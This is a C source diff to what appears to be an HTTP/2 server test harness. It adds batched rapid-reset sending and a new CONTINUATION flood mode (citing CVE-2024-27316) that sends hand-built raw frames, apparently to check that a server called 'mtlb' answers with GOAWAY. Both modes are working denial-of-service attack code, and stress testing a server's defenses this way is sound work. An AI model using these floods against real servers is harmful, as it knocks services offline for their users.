@@ -444,20 +444,29 @@ static void broken(const char *fmt, ...)
 }
 
 /* Moves nghttp2 output into out and out to the socket. false when the connection is gone. */
+/* Moves the session's output into out (up to OUT_HIGH pending) without writing it. */
+static bool fill_out(struct h2c_sb *out, size_t out_off)
+{
+    while (out->len - out_off < OUT_HIGH) {
+        const uint8_t *data;
+        ssize_t n = nghttp2_session_mem_send(session, &data);
+        if (n < 0) {
+            broken("nghttp2_session_mem_send: %s", nghttp2_strerror((int)n));
+            return false;
+        }
+        if (n == 0) {
+            break;
+        }
+        sb_mem(out, data, (size_t)n);
+    }
+    return true;
+}
+
 static bool pump_out(SSL *ssl, struct h2c_sb *out, size_t *out_off)
 {
     for (;;) {
-        while (out->len - *out_off < OUT_HIGH) {
-            const uint8_t *data;
-            ssize_t n = nghttp2_session_mem_send(session, &data);
-            if (n < 0) {
-                broken("nghttp2_session_mem_send: %s", nghttp2_strerror((int)n));
-                return false;
-            }
-            if (n == 0) {
-                break;
-            }
-            sb_mem(out, data, (size_t)n);
+        if (!fill_out(out, *out_off)) {
+            return false;
         }
         if (*out_off == out->len) {
             out->len = *out_off = 0;
@@ -515,13 +524,16 @@ static void rapid_reset(SSL *ssl, struct h2c_sb *out, size_t *out_off, struct po
             break;
         }
         /* HEADERS must be on the wire (in out) before RST_STREAM is queued, or nghttp2 simply
-         * drops the request. */
-        if (!pump_out(ssl, out, out_off)) {
+         * drops the request. With --rapid-reset-batch the pairs collect in out and go in one
+         * write (one TLS record), as a real attacker sends them. */
+        bool flush = opts.rapid_reset_batch <= 1 || (done + 1) % opts.rapid_reset_batch == 0 ||
+                     done + 1 == opts.rapid_reset;
+        if (!(flush ? pump_out(ssl, out, out_off) : fill_out(out, *out_off))) {
             break;
         }
         nghttp2_submit_rst_stream(session, NGHTTP2_FLAG_NONE, id, NGHTTP2_CANCEL);
         done++;
-        if (!pump_out(ssl, out, out_off)) {
+        if (!(flush ? pump_out(ssl, out, out_off) : fill_out(out, *out_off))) {
             break;
         }
         if (poll(pfd, 1, 0) > 0 && (pfd->revents & (POLLIN | POLLHUP | POLLERR))) {
@@ -529,6 +541,51 @@ static void rapid_reset(SSL *ssl, struct h2c_sb *out, size_t *out_off, struct po
         }
     }
     printf("rapid-reset sent=%ld\n", done);
+    fflush(stdout);
+}
+
+/* Writes one frame, reading what comes meanwhile; false once mtlb said GOAWAY or closed. */
+static bool write_frame(SSL *ssl, const uint8_t *f, int len, struct pollfd *pfd)
+{
+    while (!goaway_seen && !peer_closed && !conn_broken) {
+        int w = SSL_write(ssl, f, len);
+        if (w == len) {
+            return true;
+        }
+        int e = SSL_get_error(ssl, w);
+        if (e != SSL_ERROR_WANT_WRITE && e != SSL_ERROR_WANT_READ) {
+            return false;
+        }
+        pfd->events = POLLIN | POLLOUT;
+        if (poll(pfd, 1, 100) > 0 && (pfd->revents & (POLLIN | POLLHUP | POLLERR))) {
+            pump_in(ssl);
+        }
+    }
+    return false;
+}
+
+/* The CONTINUATION flood (CVE-2024-27316 and kin): HEADERS on stream 1 without END_HEADERS,
+ * then CONTINUATION frames of one 1,000-byte field each, never ending the header block. */
+static void continuation_flood(SSL *ssl, struct h2c_sb *out, size_t *out_off, struct pollfd *pfd)
+{
+    static const uint8_t head[] = {0,    0,    14,  1,   0x1, 0,   0,   0,   1,   0x82, 0x87, 0x84,
+                                   0x01, 0x09, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's',  't',  '\0'};
+    uint8_t f[9 + 1010] = {
+        0x00, 0x03, 0xf2, 9,   0,   0,    0,    0,   1, 0x00,
+        0x05, 'x',  'p',  'a', 'd', 0x7f, 0xe9, 0x06}; /* "xpad": 1000 bytes (7-bit prefix 127 +
+                                                          873) */
+    long done = 0;
+    memset(f + 18, 'a', sizeof(f) - 18);
+    if (pump_out(ssl, out, out_off) && write_frame(ssl, head, sizeof(head) - 1, pfd)) {
+        while (done < opts.continuation_flood && write_frame(ssl, f, (int)sizeof(f), pfd)) {
+            done++;
+            pfd->events = POLLIN;
+            if (poll(pfd, 1, 0) > 0 && (pfd->revents & (POLLIN | POLLHUP | POLLERR))) {
+                pump_in(ssl);
+            }
+        }
+    }
+    printf("continuation-flood sent=%ld\n", done);
     fflush(stdout);
 }
 
@@ -655,6 +712,9 @@ static int run(SSL *ssl, int fd)
     double deadline = now_ms() + opts.timeout_ms, linger_until = 0;
     if (opts.rapid_reset > 0) {
         rapid_reset(ssl, &out, &out_off, &pfd);
+    }
+    if (opts.continuation_flood > 0) {
+        continuation_flood(ssl, &out, &out_off, &pfd);
     }
     int rc = 0;
     while (!conn_broken && !peer_closed) {
